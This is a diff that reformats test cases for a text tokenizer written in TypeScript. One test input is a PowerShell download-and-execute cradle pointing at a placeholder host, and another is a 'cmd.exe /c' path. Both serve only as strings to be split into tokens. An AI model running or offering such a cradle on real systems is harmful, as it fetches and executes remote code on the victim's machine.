@@ -4,8 +4,14 @@ import { analyze } from "./analyze.ts";
 describe("analyze", () => {
   const cases: readonly [text: string, tokens: readonly string[]][] = [
     ["", []],
-    ["The 2 QUICK Brown-Foxes jumped over the lazy dog's bone.", ["the", "2", "quick", "brown", "foxes", "jumped", "over", "the", "lazy", "dog's", "bone"]],
-    ["IEX (New-Object Net.WebClient).DownloadString('http://a.b/c')", ["iex", "new", "object", "net.webclient", "downloadstring", "http", "a.b", "c"]],
+    [
+      "The 2 QUICK Brown-Foxes jumped over the lazy dog's bone.",
+      ["the", "2", "quick", "brown", "foxes", "jumped", "over", "the", "lazy", "dog's", "bone"],
+    ],
+    [
+      "IEX (New-Object Net.WebClient).DownloadString('http://a.b/c')",
+      ["iex", "new", "object", "net.webclient", "downloadstring", "http", "a.b", "c"],
+    ],
     ["C:\\Windows\\System32\\cmd.exe /c", ["c", "windows", "system32", "cmd.exe", "c"]],
     ["foo_bar _x __ x_", ["foo_bar", "_x", "x_"]],
     ["10.0.0.1 1,234.5 3. .5 v1.2 a.1", ["10.0.0.1", "1,234.5", "3", "5", "v1.2", "a", "1"]],
